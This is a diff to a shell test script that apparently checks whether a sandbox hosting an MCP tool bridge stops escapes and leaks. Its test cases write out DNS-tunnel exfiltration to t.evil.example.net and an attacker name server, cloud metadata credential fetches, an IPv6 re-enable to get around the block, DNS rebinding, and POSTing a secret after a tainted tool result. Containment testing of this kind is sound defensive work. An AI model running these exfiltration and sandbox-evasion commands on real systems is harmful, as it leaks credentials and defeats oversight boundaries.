@@ -51,14 +51,50 @@ got() { say "got through: $*"; exit 0; }
 # stopped TEXT: it did not.
 stopped() { say "stopped: $*"; exit 1; }
 
+# web CURL-ARGS...: one bounded curl (3 s), body discarded. Sets RC (curl's
+# exit status) and SAW: "HTTP 200 from ADDR" when a server answered, else
+# curl's own words ("curl: (7) Failed to connect ..."). curl writes 000 as
+# the status when no answer came; that is not an answer and never shown.
+web() {
+	local out code ip
+	out=$(curl -s -g -m 3 -o /dev/null \
+	    -w '%{http_code}\t%{remote_ip}\t%{errormsg}' "$@" 2>/dev/null); RC=$?
+	code=${out%%$'\t'*}; out=${out#*$'\t'}
+	ip=${out%%$'\t'*}; out=${out#*$'\t'}
+	if [ -n "$code" ] && [ "$code" != 000 ]; then
+		SAW="HTTP $code${ip:+ from $ip}"
+	else
+		SAW="curl: ($RC) ${out:-no answer}"
+	fi
+}
+
 # http_try DESCRIPTION CURL-ARGS...: one bounded curl; prints what happened.
 http_try() {
-	local what=$1 out rc; shift
-	out=$(curl -s -S -g -m 3 -o /dev/null -w '%{http_code}' "$@" 2>&1); rc=$?
-	if [ $rc -eq 0 ] && [ "${out:0:1}" = 2 ]; then
-		got "$what (HTTP $out)"
+	local what=$1; shift
+	web "$@"
+	if [ "$RC" -eq 0 ] && [[ $SAW == "HTTP 2"* ]]; then
+		got "$what ($SAW)"
 	fi
-	stopped "$what: ${out//$'\n'/ }"
+	stopped "$what: $SAW"
+}
+
+# dns NAME TYPE [@SERVER]: one bounded query (2 s). Sets DNS_STATUS (NOERROR,
+# NXDOMAIN, REFUSED, ...; empty when no reply came) and DNS_SAW, what it
+# got in words: "NXDOMAIN", "NOERROR: 192.0.2.10", "NOERROR, no records",
+# "no reply".
+dns() {
+	local out ans
+	out=$(dig +time=2 +tries=1 ${3:+"$3"} "$1" "$2" 2>&1)
+	DNS_STATUS=$(printf '%s\n' "$out" |
+	    sed -n 's/.*status: \([A-Z]*\).*/\1/p' | head -n 1)
+	ans=$(printf '%s\n' "$out" | awk '/^;; ANSWER SECTION:/ { a = 1; next }
+	    a && /^$/ { a = 0 } a && !/^;/ { print $NF }' | paste -sd' ')
+	case $DNS_STATUS in
+	"") DNS_SAW="no reply" ;;
+	NOERROR) DNS_SAW="NOERROR${ans:+: $ans}"
+		[ -n "$ans" ] || DNS_SAW="NOERROR, no records" ;;
+	*) DNS_SAW=$DNS_STATUS ;;
+	esac
 }
 
 # mcp ARGS...: the SDK client against the bridge's "ev" server, one
@@ -146,14 +182,16 @@ exfil-dns)
 	    head -n 2 | paste -sd.)
 	name=$enc.t.evil.example.net
 	say "dig A ${name:0:40}...t.evil.example.net (${#name} chars)"
-	ans=$(dig +time=2 +tries=1 +short "$name" A 2>&1)
-	say "  via the sandbox's resolver: ${ans:-no answer}"
-	ans=$(dig +time=2 +tries=1 +short @198.51.100.53 "$name" A 2>&1)
-	say "  via 198.51.100.53 directly: ${ans:-no answer}"
-	status=$(dig +time=2 +tries=1 "$name" A 2>/dev/null |
-	    sed -n 's/.*status: \([A-Z]*\).*/\1/p' | head -n 1)
-	[ "$status" = NOERROR ] && got "the query was answered (NOERROR)"
-	stopped "the query was answered ${status:-with nothing}"
+	dns "$name" A
+	own=$DNS_SAW own_st=$DNS_STATUS
+	say "  via the sandbox's resolver: $own"
+	dns "$name" A @198.51.100.53
+	say "  via 198.51.100.53 directly: $DNS_SAW"
+	# A tunnel works when a query reaches the attacker's name server and
+	# comes back answered; anything else carried nothing back.
+	[ "$own_st" = NOERROR ] && got "the sandbox's resolver answered ($own)"
+	[ "$DNS_STATUS" = NOERROR ] && got "198.51.100.53 answered ($DNS_SAW)"
+	stopped "neither query was answered ($own; $DNS_SAW)"
 	;;
 meta-v4)
 	say "GET http://$META4$META_PATH (instance credentials)"
@@ -161,9 +199,9 @@ meta-v4)
 	;;
 meta-v6)
 	say "GET http://[$META6]$META_PATH (IPv6 metadata endpoint)"
-	out=$(curl -s -S -g -m 3 -o /dev/null "http://[$META6]$META_PATH" 2>&1) &&
-	    got "$META6"
-	say "  ${out//$'\n'/ } (IPv6 is off in the sandbox)"
+	web "http://[$META6]$META_PATH"
+	[ "$RC" -eq 0 ] && got "$META6 ($SAW)"
+	say "  $SAW (IPv6 is off in the sandbox)"
 	# Root in its namespace turns IPv6 back on and routes it out through
 	# the sandbox's link, via the gateway's MAC (learned over IPv4).
 	gw=$(ip -4 route show default | awk '{print $3; exit}')
@@ -182,8 +220,8 @@ meta-v6)
 	;;
 meta-rebind)
 	say "GET http://rebind.example.com$META_PATH (an allowed name)"
-	ans=$(dig +time=2 +tries=1 +short rebind.example.com A 2>&1)
-	say "  rebind.example.com resolves to: ${ans:-nothing}"
+	dns rebind.example.com A
+	say "  the sandbox's resolver answers: $DNS_SAW"
 	http_try "rebind.example.com" "http://rebind.example.com$META_PATH"
 	;;
 mcp-allowed)
@@ -234,9 +272,8 @@ mcp-redaction)
 mcp-taint-call)
 	# Before: the web server is open to this sandbox, by name.
 	say "before: GET http://$WEB_NAME/ip"
-	out=$(curl -s -o /dev/null -w '%{http_code} %{remote_ip}' -m 3 \
-	    "http://$WEB_NAME/ip" 2>&1)
-	say "  HTTP ${out% *} from ${out#* }"
+	web "http://$WEB_NAME/ip"
+	say "  $SAW"
 	say "tools/call get-tiny-image (classified confidential)"
 	out=$(mcp --call get-tiny-image '{}' 2>&1 | tail -n 1)
 	say "  result: $(printf '%s' "$out" | jq -r '[.content[]?.type] | join(", ")' 2>/dev/null)"
@@ -249,17 +286,17 @@ mcp-taint)
 	# before (a learned element the kernel may still hold), and the
 	# keep-list's package index by name.
 	say "after the confidential result: POST data to http://$WEB_NAME/upload"
-	out=$(curl -s -S -o /dev/null -w '%{http_code}' -m 3 -X POST \
-	    --data "key=$SECRET" "http://$WEB_NAME/upload" 2>&1); rc=$?
-	say "  ${out//$'\n'/ }"
+	web -X POST --data "key=$SECRET" "http://$WEB_NAME/upload"
+	rc=$RC
+	say "  $SAW"
 	say "by the address it had before: POST to http://$WEB/upload"
-	out=$(curl -s -S -o /dev/null -w '%{http_code}' -m 3 -X POST \
-	    --data "key=$SECRET" "http://$WEB/upload" 2>&1); rc2=$?
-	say "  ${out//$'\n'/ }"
-	pkg=$(curl -s -o /dev/null -w '%{http_code}' -m 5 "$PKG_INDEX/demo-pkg/" 2>&1)
-	say "the package index by name (on the keep list): HTTP $pkg"
+	web -X POST --data "key=$SECRET" "http://$WEB/upload"
+	rc2=$RC
+	say "  $SAW"
+	web "$PKG_INDEX/demo-pkg/"
+	say "the package index by name (on the keep list): $SAW"
 	[ $rc -eq 0 ] && got "$WEB_NAME after the taint"
-	[ $rc2 -eq 0 ] && [ "${out:0:1}" != 0 ] && got "$WEB after the taint"
+	[ $rc2 -eq 0 ] && got "$WEB after the taint"
 	stopped "$WEB_NAME ($WEB) is closed after the taint"
 	;;
 *)
